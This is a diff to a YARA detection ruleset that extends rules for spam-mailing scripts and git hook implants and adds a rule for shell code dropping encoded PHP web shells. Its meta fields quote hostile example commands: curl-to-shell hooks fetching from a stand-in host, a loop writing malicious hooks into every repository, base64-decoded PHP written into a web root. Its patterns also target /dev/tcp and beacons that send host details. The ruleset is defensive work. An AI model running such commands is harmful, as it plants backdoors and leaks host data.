@@ -734,7 +734,7 @@ rule bot_smtp_spam_loop_script : bot mailer
         description = "Script sending mail to every address of a list (SMTP library, raw SMTP or sendmail inside a loop over a list file or argv)"
         severity = "high"
         technique = "a whole message sent per list entry: sendmail(%m) / MIME::Lite / smtplib .sendmail / | sendmail, or MAIL FROM then RCPT TO, inside while(<LIST>) / for x in open(f) / while read"
-        seen = "pre"
+        seen = "pre,heldout5"
     strings:
         // a whole message sent by one call
         $w1 = /\bsendmail\s{0,4}\(\s{0,4}%/
@@ -764,6 +764,10 @@ rule bot_smtp_spam_loop_script : bot mailer
         $rv7 = /\b(sendmail|mailx|mutt|mail -s) [^\n|;]{0,120}["']?\$\{?\w{1,30}/
         $rv8 = /--to\s{1,4}["']?\$/
         $rv9 = /--mail-rcpt\s{1,4}["']?\$/
+        // round 10 (heldout5): mail(1) with its options first and the recipient last,
+        // a variable as the whole argument (mail -a "From: $F" -s "$S" "$to"); a
+        // subject or header holding a variable is not the recipient
+        $rv10 = /\b(mail|mailx|mutt|s-nail)\s{1,4}-[^\n|;]{0,200}\s(\$\{?\w{1,30}\}?|"\$\{?\w{1,30}\}?")\s{0,4}(\n|;|&|\||<|\)|\\\n)/
         // the SMTP machinery the send step belongs to
         $m1 = /Net::SMTP|Mail::Sendmail|MIME::Lite|Email::Sender|Mail::Mailer|Email::Send\b|Email::Stuffer/
         $m6 = "smtp://" ascii
@@ -771,6 +775,8 @@ rule bot_smtp_spam_loop_script : bot mailer
         $m3 = /MAIL FROM/ nocase
         $m4 = /\bsendmail\b/
         $m5 = /\b(mailx|mutt|swaks|mail -s) /
+        // (round 10) options before the subject: mail -a "Content-Type: text/html" -s ..
+        $m7 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,120}"|'[^'\n]{0,120}'|[^\s"']{1,60})\s{1,4}){1,6}-s\s/
         // a loop over a list
         $loop = /\bfor(each)?\s{0,4}(my\s{1,4})?\$\w{1,30}\s{0,4}\(\s{0,4}[0-9]{1,3}\s{0,4}\.\.\s{0,4}(\$#\w{1,30}|scalar|@\w{1,30}|\$\w{1,30})|\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}\$?\w{1,30}\s{0,2}>|\bfor(each)?\s{0,4}(my\s{1,4})?(\$\w{1,30}\s{0,4})?\(\s{0,4}[@<]\s{0,2}\$?\w{1,30}\s{0,2}>?\s{0,4}\)|\bfor\s{1,4}\w{1,30}\s{1,4}in\s{1,4}[^\n;:]{1,120}(:|;\s{0,4}do\b|\n\s{0,8}do\b)|\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s/
         // a loop that itself reads the list (file, stdin, cat); round 7: also
@@ -2719,7 +2725,39 @@ private rule hs_git_hook_payload
         $p4 = "/dev/tcp/" ascii
         $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
         $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+        // round 10 (heldout5): a hook that plants a file: encoded text decoded into a
+        // file (base64 -d > f, xxd -r -p > f, openssl .. -d -out f), whatever the file
+        $p7 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}\s{0,2}["']?[$\w\/.~]|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
+        // or reports the host it runs on to a bare address (a beacon: what a deploy
+        // hook calls is its CI's name)
+        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
     condition:
+        any of them
+}
+
+/* A shell script (or a hook, a crontab line) that writes PHP from encoded
+ * text: base64 or hex decoded and redirected into a .php file, or a blob
+ * that encodes a PHP tag ("<?php" is "PD9waHA" in base64) decoded into any
+ * file. A web shell planted in the docroot by something that is not PHP,
+ * so the PHP layer never sees the writer. Installers copy PHP files; they
+ * do not carry them encoded. (round 10, heldout5) */
+rule bot_shell_decode_drop_php : bot webshell
+{
+    meta:
+        description = "Shell code decoding base64/hex text into a PHP file (a web shell planted by a script, a hook or a cron job)"
+        severity = "high"
+        technique = "echo 'PD9waHAg..' | base64 -d > \"$ROOT/public/.well-known/ping.php\"; printf %s \"$B\" | base64 --decode > wp-content/uploads/x.php; xxd -r -p <<< 3c3f706870.. > f.php"
+        seen = "heldout5"
+    strings:
+        $d1 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?)\s{0,2}["']?[^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc)\b/
+        // "<?php" / "<?=" / "<? " encoded (every alignment the encoder writes at the start), decoded
+        $b1 = /['"\s=](PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}(\||;|\n)[^\n]{0,80}\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|;&]{0,80}>/
+        $b2 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b\s{0,4}<<<\s{0,2}["']?(PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}>/
+        $h1 = /3c3f706870[0-9a-fA-F]{8,16000}['"]?[^\n]{0,40}\bxxd\b/
+    condition:
+        filesize < 512KB and not hs_doc_file and
+        (hs_lang_shell or hs_shebang or hs_crontab_text or
+         filename matches /^(pre-commit|post-commit|post-checkout|post-merge|pre-push|post-receive|post-update|post-rewrite)$/) and
         any of them
 }
 
@@ -2729,7 +2767,7 @@ rule bot_git_hook_implant : bot
         description = "Git hook (a file named post-merge, pre-commit, post-checkout...) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
         severity = "high"
         technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
-        seen = "none"
+        seen = "heldout5"
     condition:
         filesize < 256KB and
         // by the hook's name, not its path: a rule that reads `filepath` makes the
@@ -2745,7 +2783,7 @@ rule bot_git_hook_install : bot
         description = "Script writing a git hook that fetches and runs code or starts a hidden program, or pointing core.hooksPath at its own directory of such hooks"
         severity = "high"
         technique = "for g in $(find ~ -name .git); do printf '#!/bin/sh\\n(curl .. | sh) &\\n' > $g/hooks/post-merge; chmod +x ..; done; git config --global core.hooksPath ~/.config/.h"
-        seen = "none"
+        seen = "heldout5"
     strings:
         $hk = /hooks\/(pre-commit|pre-push|pre-rebase|pre-merge-commit|post-merge|post-checkout|post-commit|post-rewrite|post-receive|pre-receive|post-update|prepare-commit-msg|commit-msg)\b|["'](pre-commit|pre-push|post-merge|post-checkout|post-commit|post-rewrite)["']/
         $hp = /\bcore\.hooksPath\b/
@@ -2759,6 +2797,8 @@ rule bot_git_hook_install : bot
         $p4 = "/dev/tcp/" ascii
         $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
         $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+        $p7 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}\s{0,2}["']?[$\w\/.~]|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
+        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
     condition:
         filesize < 512KB and not hs_doc_file and
         (hs_lang_shell or hs_shebang or hs_lang_python or hs_lang_perl) and
